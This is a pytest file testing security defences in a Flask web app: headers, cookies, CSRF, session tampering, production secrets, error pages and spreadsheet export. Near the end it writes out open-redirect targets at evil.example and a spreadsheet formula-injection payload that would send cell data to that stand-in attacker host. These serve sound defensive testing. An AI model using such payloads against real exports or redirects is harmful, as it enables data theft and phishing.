"""The security baseline: headers, cookies, CSRF, tampered sessions, production secrets,
error pages and the health check."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from core import create_app
from core.config import ConfigurationError
from core.extensions import db
from core.people.models import Worker
from tests.conftest import csrf_token, production_seal_env


def test_pages_carry_security_headers_and_a_csp_without_inline_scripts(client):
    response = client.get("/login")
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    html = response.get_data(as_text=True)
    assert "<script>" not in html and " style=" not in html and "onclick" not in html


def test_session_cookie_is_httponly_and_samesite_lax(world, client):
    token = csrf_token(client, "/login")
    response = client.post("/login", data={"username": "admin", "password": "Correct2026horse",
                                           "csrf_token": token})
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_cookies_are_secure_when_configured_for_https(monkeypatch):
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "true")
    app = create_app("testing", {"DATABASE_URL": "sqlite://"})
    assert app.config["SESSION_COOKIE_SECURE"] and app.config["HSTS_ENABLED"]


def test_every_asset_is_served_locally(client):
    html = client.get("/login").get_data(as_text=True)
    assert "cdn" not in html.lower() and "https://" not in html
    assert client.get("/bootstrap/static/css/bootstrap.min.css").status_code == 200
    assert client.get("/static/css/app.css").status_code == 200


def test_a_form_without_csrf_token_is_refused_and_changes_nothing(app, world, client, login):
    login(world.users.admin)
    response = client.post(f"/admin/users/{world.users.expert}/disable")
    assert response.status_code == 400
    assert "安全令牌" in response.get_data(as_text=True)
    with app.app_context():
        from core.accounts.models import User

        assert db.session.get(User, world.users.expert).is_enabled


def test_a_tampered_session_cookie_is_treated_as_anonymous(world, client, login):
    login(world.users.admin)
    cookie = client.get_cookie("session")
    client.set_cookie("session", cookie.value[:-3] + ("AAA" if cookie.value[-3:] != "AAA" else "BBB"))
    response = client.get("/home/admin")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_session_for_a_forged_user_id_is_refused(world, client):
    with client.session_transaction() as session:
        session["_user_id"] = f"{world.users.admin}.forged-token"
    assert client.get("/home/admin").status_code == 302


@pytest.mark.parametrize("env, message", [
    ({}, "DATABASE_URL"),
    ({"DATABASE_URL": "sqlite://"}, "SECRET_KEY"),
    ({"DATABASE_URL": "sqlite://", "SECRET_KEY": "change-me"}, "SECRET_KEY"),
    ({"DATABASE_URL": "sqlite://", "SECRET_KEY": "x" * 40}, "DATA_ENCRYPTION_KEY"),
    ({"DATABASE_URL": "sqlite://", "SECRET_KEY": "x" * 40, "DATA_ENCRYPTION_KEY": "not-a-key"},
     "Fernet"),
    ({"DATABASE_URL": "sqlite://", "SECRET_KEY": "x" * 40,
      "DATA_ENCRYPTION_KEY": "9aEF6q8bB7yK8bRZbq2qTbZ2b0oFvXjv5dZ1lM9o8Ec="}, "ID_LOOKUP_KEY"),
    ({"DATABASE_URL": "sqlite://", "SECRET_KEY": "x" * 40, "ID_LOOKUP_KEY": "short",
      "DATA_ENCRYPTION_KEY": "9aEF6q8bB7yK8bRZbq2qTbZ2b0oFvXjv5dZ1lM9o8Ec="}, "ID_LOOKUP_KEY"),
])
def test_production_refuses_missing_or_default_secrets(monkeypatch, env, message):
    for name in ("DATABASE_URL", "SECRET_KEY", "DATA_ENCRYPTION_KEY", "ID_LOOKUP_KEY"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(ConfigurationError, match=message):
        create_app("production")


def test_production_starts_with_proper_secrets(monkeypatch):
    from cryptography.fernet import Fernet

    monkeypatch.setenv("DATABASE_URL", "sqlite://")
    monkeypatch.setenv("SECRET_KEY", "k" * 48)
    monkeypatch.setenv("DATA_ENCRYPTION_KEY", Fernet.generate_key().decode())
    monkeypatch.setenv("ID_LOOKUP_KEY", "l" * 48)
    monkeypatch.setenv("RATELIMIT_STORAGE_URI", "memory://")
    monkeypatch.setenv("RATELIMIT_SINGLE_PROCESS", "true")
    monkeypatch.setenv("CERTIFICATE_SIGNING_KEY", "Y2VydGlmaWNhdGUtc2lnbmluZy1rZXktMzItYnl0ZXM=")
    monkeypatch.setenv("PUBLIC_BASE_URL", "https://gj.example.org")
    for name, value in production_seal_env().items():
        monkeypatch.setenv(name, value)
    assert create_app("production").config["ENV_NAME"] == "production"


def test_unknown_profile_is_refused():
    with pytest.raises(ConfigurationError, match="APP_CONFIG"):
        create_app("staging")


@pytest.mark.parametrize("path, status, text", [
    ("/no/such/page", 404, "页面不存在"), ("/logout", 405, "不支持"),
])
def test_error_pages_use_the_site_layout(client, path, status, text):
    response = client.get(path)
    html = response.get_data(as_text=True)
    assert response.status_code == status and text in html and "navbar" in html


def test_forbidden_page_is_in_chinese(world, client, login):
    login(world.users.worker)
    response = client.get("/admin/users/")
    assert response.status_code == 403 and "无权访问" in response.get_data(as_text=True)


def test_healthz_answers_503_when_the_database_is_unreachable(tmp_path):
    app = create_app("testing", {"DATABASE_URL": f"sqlite:///{tmp_path}/missing/dir/db.sqlite3"})
    response = app.test_client().get("/healthz")
    assert response.status_code == 503 and response.json["database"] == "unreachable"


def test_oversized_request_is_refused(app, world, client, login):
    login(world.users.enterprise)
    app.config["MAX_CONTENT_LENGTH"] = 1024
    try:
        response = client.post("/workers/new", data={"honors": "荣" * 2000})
    finally:
        app.config["MAX_CONTENT_LENGTH"] = 60 * 1024 * 1024
    assert response.status_code == 413
    with app.app_context():
        assert db.session.scalar(select(db.func.count()).select_from(Worker)) == 3


def test_an_unexpected_error_gives_the_500_page_and_logs_no_query_string(tmp_path, caplog):
    from core.access import public

    app = create_app("testing", {"DATABASE_URL": f"sqlite:///{tmp_path}/e.sqlite3"})

    @public
    def explode():
        raise RuntimeError("boom")

    app.add_url_rule("/explode", "explode", explode)
    response = app.test_client().get("/explode?id_number=11010519491231002X")
    html = response.get_data(as_text=True)
    assert response.status_code == 500 and "系统出错" in html and "navbar" in html
    assert "11010519491231002X" not in caplog.text and "/explode" in caplog.text


def test_language_switch_refuses_an_offsite_next_even_with_control_characters(client):
    token = csrf_token(client, "/login")
    for target in ("/\t/evil.example", "//evil.example", "https://evil.example/", "/\\evil.example"):
        response = client.post("/language", data={"lang": "en", "next": target, "csrf_token": token})
        assert response.headers["Location"] == "/", target


@pytest.mark.parametrize("path", [
    "/workers/99999999999999999999999", "/registry/99999999999999999999999",
    "/workers/?enterprise_id=99999999999999999999999", "/workers/?page=99999999999999999999999",
    "/admin/audit/?since=0001-01-01", "/registry?year=99999999999999999999999",
])
def test_absurd_numbers_are_bad_input_not_server_errors(world, client, login, path):
    login(world.users.admin)
    assert client.get(path).status_code in (200, 400, 404)


def test_typed_text_that_looks_like_a_formula_stays_text_in_excel(app, world, client, login):
    import io

    from openpyxl import load_workbook

    with app.app_context():
        worker = db.session.get(Worker, world.worker_a)
        worker.honors = '=HYPERLINK("http://evil.example/?"&C2,"详情")'
        db.session.commit()
    login(world.users.admin)
    sheet = load_workbook(io.BytesIO(client.get("/workers/export.xlsx").data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)


def test_proxy_headers_are_trusted_only_when_configured(monkeypatch):
    monkeypatch.setenv("TRUSTED_PROXY_HOPS", "1")
    app = create_app("testing", {"DATABASE_URL": "sqlite://"})
    assert type(app.wsgi_app).__name__ == "ProxyFix"
